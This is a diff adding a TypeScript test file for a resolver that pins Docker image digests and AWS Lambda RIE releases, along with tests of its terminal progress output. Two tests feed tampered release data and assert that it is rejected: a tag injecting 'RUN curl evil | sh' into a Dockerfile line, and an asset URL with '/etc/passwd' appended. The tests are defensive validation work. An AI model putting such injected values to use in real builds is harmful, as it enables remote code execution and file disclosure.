@@ -1,0 +1,73 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { RetryPolicy } from '../lib/fetch-with-retry.ts';
+import { resolveLivePins } from '../lib/live-pins.ts';
+import { plainProgress, terminalProgress } from '../lib/lookup-progress.ts';
+import { githubApi, release } from './github/fake-github.ts';
+import { fakeRegistry } from './registry/fake-registry.ts';
+
+const policy: RetryPolicy = { attempts: 2, timeoutMs: 1000, backoffMs: 10, maxRetryAfterMs: 1000 };
+
+/** A GitHub API whose only release was tampered with by `change`. */
+type Release = ReturnType<typeof release>;
+
+async function tamperedGithub(change: (original: Release) => object) {
+  return githubApi({
+    before: (request, response, origin) => {
+      if (!request.url?.includes('/releases')) return false;
+      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify([change(release(origin, 'v1.35'))]));
+      return true;
+    },
+  });
+}
+
+async function resolveWith(githubApiUrl: string) {
+  const registry = await fakeRegistry();
+  const image = `${registry.host}/lambda/base:latest`;
+  const lines: string[] = [];
+  const pins = resolveLivePins(
+    { images: [image], runtime: { image, platform: 'linux/amd64' } },
+    { githubApiUrl, githubToken: undefined, rieRange: undefined, policy, progress: plainProgress((line) => lines.push(line)) },
+  );
+  return { pins, lines, image };
+}
+
+describe('live pins', () => {
+  it('reports each lookup as it starts and ends', async () => {
+    const { origin } = await githubApi();
+    const { pins, lines, image } = await resolveWith(origin);
+    const resolved = await pins;
+    assert.equal(resolved.rie.version, 'v1.35');
+    assert.deepEqual(lines.filter((line) => line.startsWith('resolving')).sort(), [`resolving ${image}`, 'resolving RIE release of aws/aws-lambda-runtime-interface-emulator'].sort());
+    assert.ok(lines.includes(`pinned ${image}: ${resolved.images[image]?.digest}`), lines.join('\n'));
+    assert.ok(lines.includes('pinned RIE release of aws/aws-lambda-runtime-interface-emulator: v1.35'), lines.join('\n'));
+  });
+
+  it('refuses a release tag that could break out of a Dockerfile line', async () => {
+    const { origin } = await tamperedGithub((original) => ({ ...original, tag_name: 'v1.35\nRUN curl evil | sh' }));
+    const { pins } = await resolveWith(origin);
+    await assert.rejects(pins, /^Error: live lookup\.rie\.version: "v1\.35\\nRUN curl evil \| sh" is not allowed; expected a release tag such as v1\.35$/);
+  });
+
+  it('refuses an asset URL that could break out of a Dockerfile line', async () => {
+    const { origin } = await tamperedGithub((original) => ({
+      ...original,
+      assets: original.assets.map((asset) => ({ ...asset, browser_download_url: `${asset.browser_download_url} /etc/passwd` })),
+    }));
+    const { pins } = await resolveWith(origin);
+    await assert.rejects(pins, /^Error: live lookup\.rie\.assets\.x86_64\.url: ".* \/etc\/passwd" is not allowed; expected an http\(s\) URL without spaces or quotes$/);
+  });
+
+  it('draws a spinner line on a terminal, keeps results on lines of their own, and clears it at the end', () => {
+    let screen = '';
+    const progress = terminalProgress({ columns: 60, write: (chunk: string | Uint8Array) => ((screen += String(chunk)), true) });
+    progress.start('node:24-alpine');
+    assert.match(screen, /^\r\x1b\[2K⠋ resolving node:24-alpine$/);
+    progress.start('RIE release');
+    assert.match(screen, /\r\x1b\[2K⠙ resolving node:24-alpine, RIE release$/);
+    progress.done('node:24-alpine', 'sha256:abc');
+    assert.match(screen, /\r\x1b\[2K✔ node:24-alpine: sha256:abc\n\r\x1b\[2K⠹ resolving RIE release$/);
+    progress.stop();
+    assert.ok(screen.endsWith('\r\x1b[2K'), 'the spinner line is cleared');
+  });
+});
